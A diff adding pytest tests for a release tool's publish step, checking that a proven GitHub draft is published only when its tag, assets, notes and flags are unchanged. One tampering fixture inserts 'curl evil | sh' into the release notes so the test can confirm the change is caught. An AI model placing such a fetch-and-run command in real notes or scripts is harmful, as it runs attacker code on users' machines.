@@ -1,0 +1,215 @@
+"""publish: what was proven becomes public, on its own tag; no stored verdict is believed."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import TYPE_CHECKING
+
+import pytest
+
+from instance import COMMIT
+from stage import WHEEL, Stage, stage
+from tagseal.errors import Refused, TagsealError, VerificationFailed
+from tagseal.loopback.faults import Fault
+from tagseal.records import Draft, Proof, Publication, Seal
+from tagseal.services.github import GitHub
+from tagseal.steps.publish import publish
+from tagseal.steps.upload import body_digest, upload
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+    from tagseal.loopback.github.state import Release
+
+    Records = tuple[Seal, Draft, Proof]
+
+NAME = "octo/widget"
+
+
+def proof_of(draft: Draft) -> Proof:
+    """Return the proof of a draft whose commands need not run here."""
+    return Proof(
+        draft=draft.id, assets=draft.assets, body_sha256=draft.body_sha256, commands=(), attacks=(), later=0, shown=0
+    )
+
+
+def proven(released: Stage) -> Records:
+    released.accept_everything()
+    seal = released.sign()
+    draft = released.upload(seal)
+    return seal, draft, proof_of(draft)
+
+
+def published(released: Stage, records: Records, **plan: object) -> Publication:
+    seal, draft, proof = records
+    planned = replace(released.plan, **plan)  # type: ignore[arg-type]
+    return publish(released.tag, planned, seal, draft, proof, services=released.services(run=None))
+
+
+def refused(released: Stage, records: Records) -> TagsealError:
+    """Return the error, having seen that the release was not flipped."""
+    before = [(one.id, one.draft) for one in released.repository.releases]
+    with pytest.raises(TagsealError) as caught:
+        published(released, records)
+    assert [(one.id, one.draft) for one in released.repository.releases] == before
+    return caught.value
+
+
+def flips(released: Stage) -> int:
+    return sum(one.method == "PATCH" for one in released.loopback.transcript.entries)
+
+
+def test_a_proven_draft_becomes_public(released: Stage) -> None:
+    """One write, and the record says what was done, when and where."""
+    seal, draft, proof = proven(released)
+    publication = published(released, (seal, draft, proof))
+    release = released.repository.by_id[draft.id]
+    assert not release.draft
+    assert release.published_at
+    assert publication == Publication(
+        id=draft.id,
+        url=f"https://github.com/{NAME}/releases/tag/v1.2.3",
+        published_at=release.published_at.replace(microsecond=0).isoformat(),
+        acts=("release v1.2.3 published",),
+    )
+    assert released.repository.latest is release
+    assert flips(released) == 1
+
+
+def test_a_second_publish_converges(released: Stage) -> None:
+    """A release that is public and whole already is success, and nothing is written."""
+    records = proven(released)
+    first = published(released, records)
+    written = flips(released)
+    assert published(released, records) == replace(first, acts=("release v1.2.3 was public already",))
+    assert flips(released) == written
+
+
+def test_publishing_that_lost_its_answer_is_resumed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The flip happened, its answer did not come: the same command looks, and is done."""
+    lost = Fault(name="drop-after", host="api.github.com", method="PATCH")
+    with stage(tmp_path, monkeypatch, faults=[lost]) as released:
+        records = proven(released)
+        with pytest.raises(TagsealError) as caught:
+            published(released, records)
+        assert (caught.value.slug, caught.value.exit_code) == ("github-unreachable", 4)
+        assert published(released, records).acts == ("release v1.2.3 was public already",)
+
+
+def renamed_tag(release: Release) -> None:
+    release.tag_name = "v9.9.9"
+
+
+def without_wheel(release: Release) -> None:
+    release.assets = [one for one in release.assets if one.name != WHEEL]
+
+
+def with_extra(release: Release) -> None:
+    release.assets[0].name = "extra.bin"
+
+
+def other_bytes(release: Release) -> None:
+    release.assets[0].sha256 = "e" * 64
+
+
+def edited_notes(release: Release) -> None:
+    release.body = release.body.replace("gh release", "curl evil | sh # gh release", 1)
+
+
+def uploaded_again(release: Release) -> None:
+    release.assets[0].id += 1000
+
+
+def flagged(release: Release) -> None:
+    release.prerelease = True
+
+
+@pytest.mark.parametrize(
+    ("change", "slug"),
+    [
+        (renamed_tag, "release-altered"),
+        (without_wheel, "release-altered"),
+        (with_extra, "release-altered"),
+        (other_bytes, "release-altered"),
+        (edited_notes, "release-altered"),
+        (uploaded_again, "changed-after-proof"),
+        (flagged, "changed-after-proof"),
+    ],
+)
+def test_a_draft_that_changed_after_the_proof_is_not_published(
+    released: Stage, change: Callable[[Release], None], slug: str
+) -> None:
+    """The draft is read again: tag, names, sizes, digests, asset ids, notes and flags are those that were proven."""
+    records = proven(released)
+    change(released.repository.by_id[records[1].id])
+    error = refused(released, records)
+    assert (type(error), error.slug) == (VerificationFailed, slug)
+    assert "Somebody changed it meanwhile" in error.hint
+
+
+@pytest.mark.parametrize("edit", [{"draft": 1}, {"assets": ()}, {"body_sha256": "e" * 64}])
+def test_a_proof_of_something_else_publishes_nothing(released: Stage, edit: dict[str, object]) -> None:
+    """A proof is of one draft, its assets and its notes."""
+    seal, draft, proof = proven(released)
+    error = refused(released, (seal, draft, replace(proof, **edit)))  # type: ignore[arg-type]
+    assert error.slug == "changed-after-proof"
+
+
+def test_notes_that_render_differently_now_are_not_published(released: Stage) -> None:
+    """The page is rendered again: the record's digest and the remote body alone prove nothing."""
+    seal, draft, proof = proven(released)
+    release = released.repository.by_id[draft.id]
+    release.body = "Trust us.\n\n<!-- tagseal: v1.2.3 -->"
+    seen = released.services().github.release(NAME, draft.id)
+    error = refused(released, (seal, draft, replace(proof, body_sha256=body_digest(seen.body))))
+    assert "the notes: not as rendered" in error.context
+
+
+@pytest.mark.parametrize("commit", ["e" * 40, None], ids=["moved", "deleted"])
+def test_a_tag_that_moved_publishes_nothing(released: Stage, commit: str | None) -> None:
+    """The remote tag is read again, immediately before."""
+    records = proven(released)
+    if commit:
+        released.repository.add_tag("v1.2.3", commit)
+    else:
+        del released.repository.refs["refs/tags/v1.2.3"]
+    error = refused(released, records)
+    assert (type(error), error.slug) == (Refused, "tag-moved-before-publish")
+    assert error.what == f"got v1.2.3 on {commit or 'no commit'} at the remote, expected {COMMIT}"
+
+
+def test_a_changed_work_folder_publishes_nothing(released: Stage) -> None:
+    """Every bundle is verified again in this job."""
+    records = proven(released)
+    (released.work.packages / WHEEL).write_text("other bytes")
+    assert refused(released, records).slug == "sealed-files-changed"
+
+
+def test_a_deleted_draft_publishes_nothing(released: Stage) -> None:
+    """No other draft takes its place."""
+    seal, draft, proof = proven(released)
+    del released.repository.by_id[draft.id]
+    assert refused(released, (seal, draft, proof)).slug == "github-not-found"
+
+
+def test_a_pre_release_is_published_as_one(released: Stage) -> None:
+    """The flag stays, and it is not the latest."""
+    released.accept_everything()
+    seal = released.sign()
+    planned = {"prerelease": True, "version": "1.2.3rc1"}
+    draft = upload(released.tag, replace(released.plan, **planned), seal, services=released.services())  # type: ignore[arg-type]
+    published(released, (seal, draft, proof_of(draft)), **planned)
+    assert released.repository.by_id[draft.id].prerelease
+    assert released.repository.latest is None
+
+
+def test_what_is_latest_is_told_when_it_is_published(released: Stage) -> None:
+    """A higher version that became public after the plan stays the latest, whatever the record claims."""
+    records = proven(released)
+    released.repository.add_tag("v2.0.0", COMMIT)
+    github = GitHub(released.services().environ["GITHUB_TOKEN"])
+    higher = github.create_draft(NAME, "v2.0.0", body="", prerelease=False)
+    github.publish(NAME, higher, latest=True)
+    published(released, records, latest=True)
+    assert released.repository.latest is released.repository.by_id[higher.id]
